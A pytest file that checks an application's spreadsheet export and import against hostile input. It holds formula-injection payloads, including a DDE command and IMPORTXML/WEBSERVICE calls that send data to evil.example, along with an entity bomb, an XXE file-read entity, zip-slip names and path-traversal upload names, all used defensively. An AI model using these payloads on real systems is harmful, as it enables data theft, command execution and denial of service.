"""What a cell holds runs nowhere it goes to, and no file that comes in reaches past itself."""

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from components.domain.schema import TABS
from components.importing.sources import sources_of
from components.storage import NotAWorkbook, Rows
from components.storage.files import csv_of, grids_from_xlsx, xlsx_bytes

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil","x")'),
    *('=IMPORTXML("http://evil.example?"&A1,"//x")', '=WEBSERVICE("http://evil.example")'),
    *("\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠x"),
    *('=1+1";=1+1;"', "a,=1+1", "a;=1+1", "a\t=1+1", '"\n=1+1', "\u200b=1+1", "%0A=1+1"),
    *("{=1+1}", "<f>1+1</f>", "]]><f>1+1</f>", '</t></is></c><c t="str"><f>1+1</f>'),
)
STARTS_A_FORMULA = re.compile("[=+\\-@\t\r\n＝＋－＠]")


def in_every_text_column(text: str) -> Rows:
    """Return one row a tab with the text in each of its text columns."""
    return {
        name: [{c.field: text for c in tab.columns if c.kind.word in {"text", "names", "name"}}]
        for name, tab in TABS.items()
    }


def test_no_text_becomes_a_formula_or_a_link_in_an_xlsx_file(
    capsys: pytest.CaptureFixture[str],
) -> None:
    cells = 0
    for text in FORMULAS:
        data = xlsx_bytes(in_every_text_column(text))
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = {name: archive.read(name).decode() for name in archive.namelist()}
        assert not [name for name, part in parts.items() if re.search(r"<f[\s>/]", part)], text
        assert not [name for name in parts if "externalLink" in name or "vba" in name.lower()]
        assert "hyperlink" not in "".join(parts.values()), text
        for sheet in openpyxl.load_workbook(io.BytesIO(data)):
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert "f" not in kinds, text
            cells += sheet.max_column
    with capsys.disabled():
        print(f"\n  .xlsx: {len(FORMULAS)} formulas in {cells:,} cells, 0 would run")  # noqa: T201


def test_no_cell_of_a_csv_file_starts_like_a_formula_in_any_country(
    capsys: pytest.CaptureFixture[str],
) -> None:
    cells = 0
    for text in FORMULAS:
        for content in csv_of(in_every_text_column(text)).values():
            lines = content.decode("utf-8-sig")
            for line in csv_rows(lines):
                assert not [cell for cell in line if STARTS_A_FORMULA.match(cell)], text
                cells += len(line)
    with capsys.disabled():
        print(f"\n  CSV: {len(FORMULAS)} formulas in {cells:,} cells, 0 would run")  # noqa: T201


def csv_rows(text: str) -> list[list[str]]:
    """Return the cells as a spreadsheet parts them, which knows nothing of ours."""
    import csv  # noqa: PLC0415 - the reader of the standard library, as an outside measure

    return list(csv.reader(io.StringIO(text, newline="")))


# --- coming in ------------------------------------------------------------------------------


def a_workbook(**parts: bytes) -> bytes:
    """Return a small workbook with parts put in place or added; `__` in a name stands for `/`."""
    book = openpyxl.Workbook()
    book.worksheets[0].title = "Customers"
    book.worksheets[0].append(["Customer"])
    book.worksheets[0].append(["Acme"])
    plain, packed = io.BytesIO(), io.BytesIO()
    book.save(plain)
    put = {name.replace("__", "/").replace("_xml", ".xml"): part for name, part in parts.items()}
    with (
        zipfile.ZipFile(plain) as old,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, put.pop(name, old.read(name)))
        for name, part in put.items():
            new.writestr(name, part)
    return packed.getvalue()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(10))
SHEET = (
    '<?xml version="1.0"?><!DOCTYPE x [{declared}]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Customer</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>{used}</t></is></c></row>'
    "</sheetData></worksheet>"
)


def test_entities_that_grow_without_end_are_refused() -> None:
    sheet = SHEET.format(declared=LAUGHS, used="&l9;").encode()
    with pytest.raises(NotAWorkbook):
        sources_of("book.xlsx", a_workbook(xl__worksheets__sheet1_xml=sheet))


def test_a_workbook_cannot_read_files_of_this_machine(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("QX93-secret")
    declared = f'<!ENTITY x SYSTEM "{secret.as_uri()}">'
    data = a_workbook(
        xl__worksheets__sheet1_xml=SHEET.format(declared=declared, used="&x;").encode()
    )
    try:
        found = str(grids_from_xlsx(data, "book.xlsx"))
    except NotAWorkbook as error:
        found = str(error)
    assert "QX93-secret" not in found


def test_a_part_named_like_a_path_is_written_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    below = tmp_path / "one" / "two"
    below.mkdir(parents=True)
    monkeypatch.chdir(below)
    names = ("../../evil.txt", "..\\..\\evil.txt", str(tmp_path / "evil.txt"), "C:\\evil.txt")
    data = a_workbook(**dict.fromkeys(names, b"evil"))
    assert [source.title for source in sources_of("../../book.xlsx", data)] == ["Customers"]
    assert [file for file in tmp_path.rglob("*") if file.is_file()] == []


def test_a_part_that_lies_about_its_size_gives_no_more_than_it_told() -> None:
    data = bytearray(a_workbook())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        told = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    at = data.rindex(b"xl/worksheets/sheet1.xml") - 22  # "uncompressed size" of that entry
    assert int.from_bytes(data[at : at + 4], "little") == told
    data[at : at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(NotAWorkbook):
        sources_of("book.xlsx", bytes(data))


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.csv", "/etc/cron.d/x.csv", "..\\..\\x.csv", "a\0b.csv", "x/../../y.csv"],
)
def test_an_uploads_name_is_a_name_and_no_path(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (source,) = sources_of(name, b"Customer\nAcme\n")
    assert "/" not in source.name
    assert not list(tmp_path.iterdir())
